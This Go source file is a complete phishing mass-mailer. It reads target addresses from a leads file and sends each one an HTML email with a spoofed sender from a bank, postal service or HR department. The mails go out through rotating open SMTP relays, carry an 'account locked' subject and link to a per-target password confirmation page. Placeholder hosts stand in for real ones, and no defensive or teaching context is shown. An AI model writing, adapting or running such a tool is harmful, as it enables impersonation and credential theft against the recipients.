package main

import (
	"bufio"
	"fmt"
	"math/rand"
	"net/smtp"
	"os"
	"strings"
)

var relays = []string{"192.0.2.25:25", "198.51.100.25:25", "203.0.113.25:25"}
var froms = []string{"security@bank.example", "no-reply@post.example", "hr@corp.example"}

func lines(p string) (out []string) {
	f, err := os.Open(p)
	if err != nil {
		return
	}
	defer f.Close()
	for s := bufio.NewScanner(f); s.Scan(); {
		out = append(out, strings.TrimSpace(s.Text()))
	}
	return
}

func main() {
	to := lines("leads.txt")
	done := make(chan bool)
	for i, addr := range to {
		go func(i int, addr string) {
			from := froms[rand.Intn(len(froms))]
			id := fmt.Sprintf("%08x", rand.Uint32())
			msg := fmt.Sprintf("From: Account Team <%s>\r\nTo: %s\r\nSubject: Your account is locked [%s]\r\nContent-Type: text/html\r\n\r\n<a href='http://login.example.invalid/%s'>Confirm your password</a>\r\n", from, addr, id, id)
			smtp.SendMail(relays[i%len(relays)], nil, from, []string{addr}, []byte(msg))
			done <- true
		}(i, addr)
	}
	for range to {
		<-done
	}
}
